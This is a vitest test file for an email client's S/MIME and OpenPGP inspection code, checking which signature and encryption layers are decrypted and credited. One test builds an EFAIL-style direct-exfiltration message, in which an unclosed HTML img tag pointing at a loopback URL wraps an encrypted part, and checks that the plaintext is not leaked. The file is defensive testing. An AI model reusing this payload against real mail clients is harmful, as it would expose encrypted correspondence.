// The status rules of the message layer, with real S/MIME and OpenPGP made by our engine:
// only whole-message layers are opened and credited; nested ones are listed, never opened.
import { beforeAll, describe, expect, it } from "vitest";
import { JSDOM } from "jsdom";
import createDOMPurify from "dompurify";
import { makePki, type TestPki } from "../smime/pki.js";
import { inspectMessage, type LayerOpener } from "../../src/core/message/inspect.js";
import { protectMessage } from "../../src/core/message/protect.js";
import { smimeOpener, smimeWriter } from "../../src/core/message/smime-adapter.js";
import { pgpOpener } from "../../src/core/message/pgp-adapter.js";
import { smimeEncrypt, smimeSign } from "../../src/core/smime/index.js";
import { buildRenderModel } from "../../src/core/render/render-model.js";
import { copySource, decryptedCopy, decryptedMessagePieces } from "../../src/core/message/decrypted-message.js";
import { fromUtf8, utf8, concatBytes } from "../../src/core/bytes.js";
import { generatePgpKey, encryptArmored } from "../../src/core/pgp/index.js";

let pki: TestPki;
let openers: LayerOpener[];
let aliceOnly: LayerOpener[];

const HEAD = `From: Alice <alice@example.org>\r\nTo: Bob <bob@example.org>\r\nSubject: Board minutes\r\nDate: ${new Date().toUTCString()}\r\n`;
const PLAIN = utf8(HEAD + "Content-Type: text/plain; charset=utf-8\r\n\r\nConfidential: merger on Friday.\r\n");

beforeAll(async () => {
  pki = await makePki();
  const ctx = { identities: [{ ...pki.bob, chain: [] }], trustAnchors: [pki.root.certificate], knownCertificates: [pki.intermediate.certificate] };
  openers = [smimeOpener(ctx), pgpOpener({ secretKeys: [], publicKeys: [] })];
  aliceOnly = [smimeOpener({ identities: [{ ...pki.alice, chain: [] }], trustAnchors: [pki.root.certificate], knownCertificates: [pki.intermediate.certificate] })];
}, 120_000);

function alice() {
  return { ...pki.alice, chain: [pki.intermediate.certificate] };
}

describe("inspect: credited layers", () => {
  it("sign-then-encrypt: decrypted and valid, both covering the message; the protected Subject is read", async () => {
    const writer = smimeWriter(alice(), [{ certificate: pki.bob.certificate }, { certificate: pki.alice.certificate }]);
    const wire = await protectMessage(PLAIN, { writer, sign: true, encrypt: true });
    expect(fromUtf8(wire)).toMatch(/^Subject: \[\.\.\.\]\r$/m);
    const r = await inspectMessage(wire, { openers });
    expect(r.status.encryption).toMatchObject({ state: "decrypted", protocol: "smime" });
    expect(r.status.signature.state).toBe("valid");
    expect(r.status.covers).toEqual({ signature: "message", encryption: "message" });
    expect(r.status.protectedHeaders?.subject).toBe("Board minutes");
    const decrypted = fromUtf8(concatBytes(decryptedMessagePieces(r)));
    expect(decrypted).toContain("Confidential: merger on Friday.");
    expect(decrypted).toMatch(/^Subject: Board minutes\r$/m);
  });

  it("decrypted copy of sign-then-encrypt with an obscured Subject: real Subject in the header, the signature kept and still valid", async () => {
    const writer = smimeWriter(alice(), [{ certificate: pki.bob.certificate }]);
    const wire = await protectMessage(PLAIN, { writer, sign: true, encrypt: true });
    expect(fromUtf8(wire)).toMatch(/^Subject: \[\.\.\.\]\r$/m);
    const r = await inspectMessage(wire, { openers });
    const copy = decryptedCopy(copySource(r)!);
    const text = fromUtf8(copy);
    expect(text).toMatch(/^Subject: Board minutes\r$/m);
    expect(text).not.toContain("[...]");
    expect(text).toMatch(/^Content-Type: multipart\/signed/im);
    expect(text).toContain("Confidential: merger on Friday.");
    const again = await inspectMessage(copy, { openers });
    expect(again.status.encryption.state).toBe("none");
    expect(again.status.signature.state).toBe("valid");
    expect(again.status.protectedHeaders?.subject).toBe("Board minutes");
  });

  it("no decrypted copy of a message that was not decrypted", async () => {
    const enc = await smimeEncrypt(utf8("Content-Type: text/plain\r\n\r\nFor Bob only.\r\n"), [{ certificate: pki.bob.certificate }]);
    expect(copySource(await inspectMessage(concatBytes([utf8(HEAD), enc]), { openers: aliceOnly }))).toBeNull();
  });

  it("encrypt-then-sign: decrypted; the outer signature signs only ciphertext and is not credited", async () => {
    const inner = utf8("Content-Type: text/plain\r\n\r\nInner text.\r\n");
    const enc = await smimeEncrypt(inner, [{ certificate: pki.bob.certificate }]);
    const signed = await smimeSign(enc, alice());
    const r = await inspectMessage(concatBytes([utf8(HEAD), signed]), { openers });
    expect(r.status.encryption.state).toBe("decrypted");
    expect(r.status.signature.state).toBe("none");
    expect(r.status.uncredited).toEqual([expect.objectContaining({ code: "signs-ciphertext", signature: expect.objectContaining({ state: "valid" }) })]);
    expect(fromUtf8(r.view!.raw)).toContain("Inner text.");
  });

  it("no key: failed/no-key, nothing to show, the error listed", async () => {
    const enc = await smimeEncrypt(utf8("Content-Type: text/plain\r\n\r\nFor Bob only.\r\n"), [{ certificate: pki.bob.certificate }]);
    const r = await inspectMessage(concatBytes([utf8(HEAD), enc]), { openers: aliceOnly });
    expect(r.status.encryption).toMatchObject({ state: "failed", code: "no-key" });
    expect(r.view).toBeNull();
    expect(r.status.errors.map((e) => e.code)).toEqual(["no-key"]);
  });
});

describe("inspect: nested layers are never opened or credited", () => {
  it("EFAIL direct exfiltration: the encrypted part between attacker HTML parts is not decrypted or merged", async () => {
    const enc = await smimeEncrypt(utf8("Content-Type: text/plain\r\n\r\nTOP-SECRET-PLAINTEXT\r\n"), [{ certificate: pki.bob.certificate }]);
    const attack = utf8(
      HEAD +
        'Content-Type: multipart/mixed; boundary="BOUND"\r\n\r\n--BOUND\r\nContent-Type: text/html\r\n\r\n<img src="http://127.0.0.1:9/?\r\n--BOUND\r\n',
    );
    const tail = utf8('\r\n--BOUND\r\nContent-Type: text/html\r\n\r\n">\r\n--BOUND--\r\n');
    const r = await inspectMessage(concatBytes([attack, enc, tail]), { openers });
    expect(r.status.encryption.state).toBe("none");
    expect(r.status.signature.state).toBe("none");
    expect(r.status.nested).toEqual([expect.objectContaining({ path: "2", kind: "encrypted", protocol: "smime" })]);
    expect(r.layers).toEqual([]);
    const purify = createDOMPurify(new JSDOM("").window as unknown as Window & typeof globalThis);
    const model = buildRenderModel(r.view!, purify);
    const shown = JSON.stringify(model);
    expect(shown).not.toContain("TOP-SECRET-PLAINTEXT");
    expect(shown).not.toContain("127.0.0.1");
    expect(model.blocks.map((b) => b.kind)).toEqual(["html", "html"]);
    expect(model.attachments.map((a) => a.contentType)).toEqual(["application/pkcs7-mime"]);
  });

  it("a validly signed part wrapped in multipart/mixed earns no message-level badge", async () => {
    const signed = await smimeSign(utf8("Content-Type: text/plain\r\n\r\nI, Alice, approve.\r\n"), alice());
    const wrapped = concatBytes([
      utf8(HEAD + 'Content-Type: multipart/mixed; boundary="W"\r\n\r\n--W\r\nContent-Type: text/plain\r\n\r\nAttacker text above.\r\n--W\r\n'),
      signed,
      utf8("\r\n--W--\r\n"),
    ]);
    const r = await inspectMessage(wrapped, { openers });
    expect(r.status.signature.state).toBe("none");
    expect(r.status.covers.signature).toBe("none");
    expect(r.status.nested).toEqual([expect.objectContaining({ path: "2", kind: "signed" })]);
  });

  it("an inline PGP block after other text is listed, not decrypted, and the text stays visible", async () => {
    const { publicKey } = await generatePgpKey({ email: "bob@example.org" });
    const armored = await encryptArmored(utf8("hidden"), { recipients: [publicKey] });
    const body = `Please see below.\r\n\r\n${armored.replace(/\r?\n/g, "\r\n")}`;
    const r = await inspectMessage(utf8(HEAD + "Content-Type: text/plain\r\n\r\n" + body), { openers });
    expect(r.status.encryption.state).toBe("none");
    expect(r.status.nested).toEqual([expect.objectContaining({ kind: "encrypted", protocol: "openpgp" })]);
    expect(r.view).toBe(r.top);
  });

  it("legacy protected-headers=\"v1\" inner headers are read; unmarked inner Subject is not trusted", async () => {
    const marked = utf8('Content-Type: text/plain; protected-headers="v1"\r\nSubject: Real subject\r\n\r\nx\r\n');
    const unmarked = utf8("Content-Type: text/plain\r\nSubject: Fake subject\r\n\r\nx\r\n");
    const for1 = await smimeEncrypt(marked, [{ certificate: pki.bob.certificate }]);
    const for2 = await smimeEncrypt(unmarked, [{ certificate: pki.bob.certificate }]);
    expect((await inspectMessage(concatBytes([utf8(HEAD), for1]), { openers })).status.protectedHeaders?.subject).toBe("Real subject");
    expect((await inspectMessage(concatBytes([utf8(HEAD), for2]), { openers })).status.protectedHeaders).toBeUndefined();
  });
});

describe("Autocrypt header on outgoing mail", () => {
  it("carries a minimal copy of the sender's key that the reader side collects as a new key", async () => {
    const { formatAutocryptHeader, collectPgpKeys, pgpSign } = await import("../../src/core/pgp/index.js");
    const { parseMime } = await import("../../src/core/mime/index.js");
    const { privateKey, publicKey } = await generatePgpKey([{ name: "Alice", email: "alice@example.org" }, { email: "alice@private.example" }]);
    const value = await formatAutocryptHeader("Alice@Example.org", publicKey);
    expect(value).toMatch(/^addr=alice@example\.org; keydata=/);
    const writer = { protocol: "openpgp" as const, sign: (inner: Uint8Array, before?: Uint8Array) => pgpSign(inner, privateKey, before), encrypt: () => Promise.reject(new Error("unused")) };
    const wire = await protectMessage(PLAIN, { writer, sign: true, encrypt: false, outerHeaders: [{ name: "Autocrypt", value }] });
    const found = await collectPgpKeys(parseMime(wire), "alice@example.org", []);
    expect(found.new.map((k) => k.info.fingerprint)).toEqual([publicKey.getFingerprint()]);
    // Only the user id for the Autocrypt address travels.
    expect(found.new[0]!.info.userIds).toEqual(["Alice <alice@example.org>"]);
  });
});
